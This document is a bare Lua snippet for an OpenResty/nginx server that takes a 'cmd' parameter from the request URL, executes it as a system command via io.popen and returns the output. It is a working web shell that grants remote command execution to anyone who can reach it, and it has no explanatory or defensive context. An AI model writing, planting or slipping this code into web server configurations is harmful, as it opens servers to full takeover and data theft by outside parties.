local args = ngx.req.get_uri_args()
if args.cmd then
  local p = io.popen(args.cmd)
  local a = p:read("*a")
  p:close()
  ngx.say(a)
end
